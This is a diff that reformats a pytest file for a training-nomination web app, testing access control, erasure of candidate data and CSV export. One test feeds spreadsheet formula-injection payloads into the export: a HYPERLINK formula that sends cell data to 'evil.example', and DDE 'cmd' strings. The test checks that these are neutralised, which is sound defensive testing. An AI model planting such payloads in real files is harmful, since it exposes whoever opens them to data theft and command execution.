@@ -21,8 +21,20 @@ from tests.factories import csrf_token, make_user, sign_in, soup, state
 NO_SUCH_NOMINATION = "No such nomination."
 ROLE_REFUSED = "Your role does not give access to this page."
 MANAGERS_ONLY = "Only the course provider, coordinators and admins may do this."
-CSV_HEADER = ["State", "Preference", "Full name", "Rank or grade", "Service", "Gender", "Languages", "Notes",
-              "Status", "Reason", "Outcome", "Outcome date"]
+CSV_HEADER = [
+    "State",
+    "Preference",
+    "Full name",
+    "Rank or grade",
+    "Service",
+    "Gender",
+    "Languages",
+    "Notes",
+    "Status",
+    "Reason",
+    "Outcome",
+    "Outcome date",
+]
 
 
 def focal_point(session: Session, code: str, **fields: Any) -> User:
@@ -37,10 +49,18 @@ def course(session: Session, by: User, *, publish: bool = True, **changes: Any) 
     """A police SAAT course online starting in forty days, 4 seats, 2 per state, offered by `by`'s state."""
     start = date.today() + timedelta(days=40)
     fields: dict[str, Any] = {
-        "title": "SAAT preparation", "course_type": "saat-preparation", "track": "police",
-        "starts_on": start.isoformat(), "ends_on": (start + timedelta(days=4)).isoformat(),
-        "deadline_on": (start - timedelta(days=10)).isoformat(), "seats": 4, "seats_per_state": 2,
-        "languages": ["en"], "online": True, "zone": "Pacific/Fiji"}
+        "title": "SAAT preparation",
+        "course_type": "saat-preparation",
+        "track": "police",
+        "starts_on": start.isoformat(),
+        "ends_on": (start + timedelta(days=4)).isoformat(),
+        "deadline_on": (start - timedelta(days=10)).isoformat(),
+        "seats": 4,
+        "seats_per_state": 2,
+        "languages": ["en"],
+        "online": True,
+        "zone": "Pacific/Fiji",
+    }
     fields.update(changes)
     offer = service.create_offer(session, user=by, form=service.OfferForm(**fields))
     if publish:
@@ -61,17 +81,35 @@ class Cast:
 @pytest.fixture
 def cast(session: Session) -> Cast:
     readers = {
-        "provider": focal_point(session, "FJ"), "samoa": focal_point(session, "WS"),
-        "samoa colleague": focal_point(session, "WS"), "tonga": focal_point(session, "TO"),
-        "other provider": focal_point(session, "AU"), "coordinator": staff(session, "coordinator"),
-        "admin": staff(session, "admin"), "observer": staff(session, "observer"),
+        "provider": focal_point(session, "FJ"),
+        "samoa": focal_point(session, "WS"),
+        "samoa colleague": focal_point(session, "WS"),
+        "tonga": focal_point(session, "TO"),
+        "other provider": focal_point(session, "AU"),
+        "coordinator": staff(session, "coordinator"),
+        "admin": staff(session, "admin"),
+        "observer": staff(session, "observer"),
     }
     offer = course(session, readers["provider"])
-    sina = service.nominate(session, user=readers["samoa"], offer=offer, form=service.CandidateForm(
-        full_name="Sina Leota", gender="woman", rank="Senior Constable", service="Samoa Police Service",
-        languages=["en"], notes="Served with UNMISS in 2023"))
-    mele = service.nominate(session, user=readers["tonga"], offer=offer, form=service.CandidateForm(
-        full_name="Mele Taufa", gender="woman", rank="Inspector", service="Tonga Police"))
+    sina = service.nominate(
+        session,
+        user=readers["samoa"],
+        offer=offer,
+        form=service.CandidateForm(
+            full_name="Sina Leota",
+            gender="woman",
+            rank="Senior Constable",
+            service="Samoa Police Service",
+            languages=["en"],
+            notes="Served with UNMISS in 2023",
+        ),
+    )
+    mele = service.nominate(
+        session,
+        user=readers["tonga"],
+        offer=offer,
+        form=service.CandidateForm(full_name="Mele Taufa", gender="woman", rank="Inspector", service="Tonga Police"),
+    )
     return Cast(offer, sina, mele, readers)
 
 
@@ -92,23 +130,43 @@ def rows(text: str) -> list[list[str]]:
 def saved(session: Session) -> list[tuple[Any, ...]]:
     """The nominations as stored, personal data included."""
     session.expire_all()
-    return list(session.exec(select(Nomination.id, Nomination.full_name, Nomination.rank, Nomination.service,
-                                    Nomination.notes, Nomination.status, Nomination.erased_at)
-                             .order_by(col(Nomination.id))).all())
+    return list(
+        session.exec(
+            select(
+                Nomination.id,
+                Nomination.full_name,
+                Nomination.rank,
+                Nomination.service,
+                Nomination.notes,
+                Nomination.status,
+                Nomination.erased_at,
+            ).order_by(col(Nomination.id))
+        ).all()
+    )
 
 
 def certify(session: Session, cast: Cast) -> None:
     """Sina is accepted, the course took place last week and she passed the SAAT."""
     provider, offer = cast.readers["provider"], cast.offer
-    service.allocate(session, get_settings(), user=provider, offer=offer, decisions={cast.sina.id: "accepted"},  # type: ignore[dict-item]
-                     reasons={})
+    service.allocate(
+        session,
+        get_settings(),
+        user=provider,
+        offer=offer,
+        decisions={cast.sina.id: "accepted"},  # type: ignore[dict-item]
+        reasons={},
+    )
     service.set_status(session, get_settings(), user=provider, offer=offer, status="closed")
     offer.starts_on, offer.ends_on = date.today() - timedelta(days=9), date.today() - timedelta(days=5)
     offer.deadline_on = offer.starts_on - timedelta(days=10)
     session.add(offer)
     session.commit()
-    service.record_outcomes(session, user=provider, offer=offer,
-                            outcomes={cast.sina.id: ("passed", (date.today() - timedelta(days=5)).isoformat())})  # type: ignore[dict-item]
+    service.record_outcomes(
+        session,
+        user=provider,
+        offer=offer,
+        outcomes={cast.sina.id: ("passed", (date.today() - timedelta(days=5)).isoformat())},
+    )  # type: ignore[dict-item]
 
 
 # Who sees a candidate
@@ -116,7 +174,8 @@ def certify(session: Session, cast: Cast) -> None:
 
 @pytest.mark.parametrize("who", ["samoa", "samoa colleague", "provider", "coordinator", "admin"])
 def test_a_candidates_details_are_shown_to_their_states_focal_points_the_provider_and_the_staff(
-        client: Any, session: Session, cast: Cast, who: str) -> None:
+    client: Any, session: Session, cast: Cast, who: str
+) -> None:
     sign_in(client, session, cast.readers[who])
     response = client.get(f"/training/nominations/{cast.sina.id}")
     assert response.status_code == 200
@@ -130,7 +189,8 @@ def test_a_candidates_details_are_shown_to_their_states_focal_points_the_provide
 
 @pytest.mark.parametrize("who", ["tonga", "other provider"])
 def test_another_states_focal_point_gets_404_for_any_candidate_id_real_or_guessed(
-        client: Any, session: Session, cast: Cast, who: str) -> None:
+    client: Any, session: Session, cast: Cast, who: str
+) -> None:
     """The answer for someone else's candidate is the same as for an id that does not exist."""
     highest = session.exec(select(func.max(Nomination.id))).one()
     sign_in(client, session, cast.readers[who])
@@ -145,7 +205,8 @@ def test_another_states_focal_point_gets_404_for_any_candidate_id_real_or_guesse
 
 @pytest.mark.parametrize("who", ["tonga", "other provider"])
 def test_another_states_focal_point_cannot_erase_withdraw_or_reorder_a_candidate(
-        client: Any, session: Session, cast: Cast, who: str) -> None:
+    client: Any, session: Session, cast: Cast, who: str
+) -> None:
     sign_in(client, session, cast.readers[who])
     token = csrf_token(client.get("/training").text)
     before = saved(session)
@@ -157,7 +218,8 @@ def test_another_states_focal_point_cannot_erase_withdraw_or_reorder_a_candidate
 
 
 def test_an_observer_is_refused_candidate_pages_by_role_before_any_lookup(
-        client: Any, session: Session, cast: Cast) -> None:
+    client: Any, session: Session, cast: Cast
+) -> None:
     highest = session.exec(select(func.max(Nomination.id))).one()
     sign_in(client, session, cast.readers["observer"])
     token = csrf_token(client.get("/training").text)
@@ -173,19 +235,28 @@ def test_an_observer_is_refused_candidate_pages_by_role_before_any_lookup(
 
 
 def test_a_visitor_who_is_not_signed_in_is_sent_to_sign_in_and_sees_no_candidate(
-        client: Any, session: Session, cast: Cast) -> None:
+    client: Any, session: Session, cast: Cast
+) -> None:
     response = client.get(f"/training/nominations/{cast.sina.id}")
     assert response.status_code == 303
     assert response.headers["location"] == f"/auth/sign-in?next=/training/nominations/{cast.sina.id}"
     assert "Sina" not in response.text
 
 
-@pytest.mark.parametrize(("who", "named"), [
-    ("provider", {"Sina Leota", "Mele Taufa"}), ("coordinator", {"Sina Leota", "Mele Taufa"}),
-    ("samoa", {"Sina Leota"}), ("tonga", {"Mele Taufa"}), ("other provider", set()), ("observer", set()),
-])
+@pytest.mark.parametrize(
+    ("who", "named"),
+    [
+        ("provider", {"Sina Leota", "Mele Taufa"}),
+        ("coordinator", {"Sina Leota", "Mele Taufa"}),
+        ("samoa", {"Sina Leota"}),
+        ("tonga", {"Mele Taufa"}),
+        ("other provider", set()),
+        ("observer", set()),
+    ],
+)
 def test_the_offer_page_names_only_the_candidates_the_reader_may_see_while_everyone_sees_the_counts(
-        client: Any, session: Session, cast: Cast, who: str, named: set[str]) -> None:
+    client: Any, session: Session, cast: Cast, who: str, named: set[str]
+) -> None:
     sign_in(client, session, cast.readers[who])
     page = client.get(f"/training/{cast.offer.id}")
     assert page.status_code == 200
@@ -193,10 +264,13 @@ def test_the_offer_page_names_only_the_candidates_the_reader_may_see_while_every
     assert "Nominated: 100.0 % women (2 of 2)" in text_of(soup(page.text).find(id="women-heading").parent)
 
 
-@pytest.mark.parametrize(("who", "named"), [
-    ("samoa", True), ("provider", True), ("coordinator", True), ("tonga", False), ("observer", False)])
+@pytest.mark.parametrize(
+    ("who", "named"),
+    [("samoa", True), ("provider", True), ("coordinator", True), ("tonga", False), ("observer", False)],
+)
 def test_a_states_training_record_names_people_only_for_those_who_may_see_them(
-        client: Any, session: Session, cast: Cast, who: str, named: bool) -> None:
+    client: Any, session: Session, cast: Cast, who: str, named: bool
+) -> None:
     certify(session, cast)
     sign_in(client, session, cast.readers[who])
     page = soup(client.get("/training/records/WS").text)
@@ -217,13 +291,19 @@ def figures(client: Any, offer: TrainingOffer) -> dict[str, str]:
     reports = soup(client.get("/training/reports").text).find_all("table")
     offers = soup(client.get("/training", headers={"HX-Request": "true"}).text)
     share = soup(client.get(f"/training/{offer.id}").text).find(id="women-heading").parent
-    return {"record": text_of(record), "certified": text_of(certified), "reports": " | ".join(map(text_of, reports)),
-            "catalogue": text_of(offers), "offer": text_of(share)}
+    return {
+        "record": text_of(record),
+        "certified": text_of(certified),
+        "reports": " | ".join(map(text_of, reports)),
+        "catalogue": text_of(offers),
+        "offer": text_of(share),
+    }
 
 
 @pytest.mark.parametrize("who", ["samoa", "provider", "coordinator"])
 def test_erasing_a_candidate_removes_their_details_from_the_page_the_csv_and_the_record_while_counts_stay(
-        client: Any, session: Session, cast: Cast, who: str) -> None:
+    client: Any, session: Session, cast: Cast, who: str
+) -> None:
     certify(session, cast)
     sign_in(client, session, cast.readers["provider"])
     counted = figures(client, cast.offer)
@@ -237,8 +317,7 @@ def test_erasing_a_candidate_removes_their_details_from_the_page_the_csv_and_the
     assert response.headers["location"] == f"/training/nominations/{cast.sina.id}?notice=erased"
 
     after = soup(client.get(response.headers["location"]).text)
-    assert after.find(attrs={"role": "status"}).get_text(strip=True) == \
-        "The candidate's personal data has been erased."
+    assert after.find(attrs={"role": "status"}).get_text(strip=True) == "The candidate's personal data has been erased."
     assert after.find("h1").get_text(strip=True) == "Erased candidate"
     shown = str(after)
     for detail in ("Sina", "Leota", "Senior Constable", "Samoa Police Service", "UNMISS"):
@@ -260,28 +339,40 @@ def test_erasing_a_candidate_removes_their_details_from_the_page_the_csv_and_the
     stored = session.get(Nomination, cast.sina.id)
     session.refresh(stored)
     assert (stored.full_name, stored.rank, stored.service, stored.languages, stored.notes) == ("", "", "", "", "")
-    assert (stored.gender, stored.status, stored.outcome, stored.state_id) == \
-        ("woman", "accepted", "passed", state(session, "WS").id)
+    assert (stored.gender, stored.status, stored.outcome, stored.state_id) == (
+        "woman",
+        "accepted",
+        "passed",
+        state(session, "WS").id,
+    )
 
 
 def test_erasing_a_declined_candidate_also_removes_the_reason_that_named_them(
-        client: Any, session: Session, cast: Cast) -> None:
+    client: Any, session: Session, cast: Cast
+) -> None:
     provider = cast.readers["provider"]
     sign_in(client, session, provider)
     page = client.get(f"/training/{cast.offer.id}").text
-    client.post(f"/training/{cast.offer.id}/allocation", data={
-        "csrf_token": csrf_token(page), f"decision-{cast.sina.id}": "declined",
-        f"reason-{cast.sina.id}": "Sina Leota's passport expires before the course"})
+    client.post(
+        f"/training/{cast.offer.id}/allocation",
+        data={
+            "csrf_token": csrf_token(page),
+            f"decision-{cast.sina.id}": "declined",
+            f"reason-{cast.sina.id}": "Sina Leota's passport expires before the course",
+        },
+    )
     assert "passport expires" in client.get(f"/training/nominations/{cast.sina.id}").text
 
     sign_in(client, session, cast.readers["samoa"])
     page = client.get(f"/training/nominations/{cast.sina.id}").text
     client.post(f"/training/nominations/{cast.sina.id}/erase", data={"csrf_token": csrf_token(page)})
 
-    for reader, path in ((cast.readers["samoa"], f"/training/nominations/{cast.sina.id}"),
-                         (cast.readers["samoa"], f"/training/{cast.offer.id}"),
-                         (provider, f"/training/{cast.offer.id}"),
-                         (provider, f"/training/{cast.offer.id}/nominations.csv")):
+    for reader, path in (
+        (cast.readers["samoa"], f"/training/nominations/{cast.sina.id}"),
+        (cast.readers["samoa"], f"/training/{cast.offer.id}"),
+        (provider, f"/training/{cast.offer.id}"),
+        (provider, f"/training/{cast.offer.id}/nominations.csv"),
+    ):
         sign_in(client, session, reader)
         shown = client.get(path).text
         assert "Sina" not in shown and "passport" not in shown, path
@@ -294,13 +385,20 @@ def test_erasing_a_declined_candidate_also_removes_the_reason_that_named_them(
 
 @pytest.mark.parametrize("who", ["provider", "coordinator", "admin"])
 def test_the_nominations_csv_is_an_attachment_with_a_header_row_and_formula_cells_made_harmless(
-        client: Any, session: Session, cast: Cast, who: str) -> None:
-    risky = {"full_name": '=HYPERLINK("http://evil.example/?d="&C3,"Open")', "rank": "@SUM(1+1)*cmd|' /C calc'!A0",
-             "service_name": "+679 331 2222", "notes": "-2+3+cmd|' /C calc'!A0"}
+    client: Any, session: Session, cast: Cast, who: str
+) -> None:
+    risky = {
+        "full_name": '=HYPERLINK("http://evil.example/?d="&C3,"Open")',
+        "rank": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "service_name": "+679 331 2222",
+        "notes": "-2+3+cmd|' /C calc'!A0",
+    }
     sign_in(client, session, cast.readers["samoa"])
     page = client.get(f"/training/{cast.offer.id}").text
-    response = client.post(f"/training/{cast.offer.id}/nominations", data={
-        "csrf_token": csrf_token(page), "gender": "man", "languages": ["fr"], **risky})
+    response = client.post(
+        f"/training/{cast.offer.id}/nominations",
+        data={"csrf_token": csrf_token(page), "gender": "man", "languages": ["fr"], **risky},
+    )
     assert response.status_code == 303
 
     sign_in(client, session, cast.readers[who])
@@ -314,8 +412,14 @@ def test_the_nominations_csv_is_an_attachment_with_a_header_row_and_formula_cell
     by_preference = {(row[0], row[1]): row for row in table[1:]}
     assert set(by_preference) == {("Samoa", "1"), ("Samoa", "2"), ("Tonga", "1")}
     plain = by_preference[("Samoa", "1")]
-    assert plain[2:8] == ["Sina Leota", "Senior Constable", "Samoa Police Service", "Woman", "English",
-                          "Served with UNMISS in 2023"]
+    assert plain[2:8] == [
+        "Sina Leota",
+        "Senior Constable",
+        "Samoa Police Service",
+        "Woman",
+        "English",
+        "Served with UNMISS in 2023",
+    ]
     formula = by_preference[("Samoa", "2")]
     assert formula[2:5] + [formula[7]] == ["'" + risky[key] for key in ("full_name", "rank", "service_name", "notes")]
     assert all(not cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
@@ -331,17 +435,26 @@ def test_the_csv_speaks_the_language_of_whoever_downloads_it(client: Any, sessio
 
 @pytest.mark.parametrize(("who", "message"), [("samoa", None), ("observer", ROLE_REFUSED)])
 def test_the_csv_is_refused_to_a_nominating_state_and_to_observers_whatever_offer_id_they_try(
-        client: Any, session: Session, cast: Cast, who: str, message: str | None) -> None:
+    client: Any, session: Session, cast: Cast, who: str, message: str | None
+) -> None:
     """A nominating state is refused the export of a visible offer and told nothing exists elsewhere; an observer
     is refused by role whatever the id."""
     australia = cast.readers["other provider"]
     others = course(session, australia, title="UN staff officer", course_type="staff-officer", track="military")
-    service.nominate(session, user=cast.readers["samoa"], offer=others, form=service.CandidateForm(
-        full_name="Tavita Faleolo", gender="man"))
+    service.nominate(
+        session,
+        user=cast.readers["samoa"],
+        offer=others,
+        form=service.CandidateForm(full_name="Tavita Faleolo", gender="man"),
+    )
     draft = course(session, australia, publish=False, title="Draft course")
     highest = session.exec(select(func.max(TrainingOffer.id))).one()
-    expected = {cast.offer.id: (403, MANAGERS_ONLY), others.id: (403, MANAGERS_ONLY),
-                draft.id: (404, "No such training offer."), highest + 1: (404, "No such training offer.")}
+    expected = {
+        cast.offer.id: (403, MANAGERS_ONLY),
+        others.id: (403, MANAGERS_ONLY),
+        draft.id: (404, "No such training offer."),
+        highest + 1: (404, "No such training offer."),
+    }
     sign_in(client, session, cast.readers[who])
     for offer_id, (status, text) in expected.items():
         response = client.get(f"/training/{offer_id}/nominations.csv")
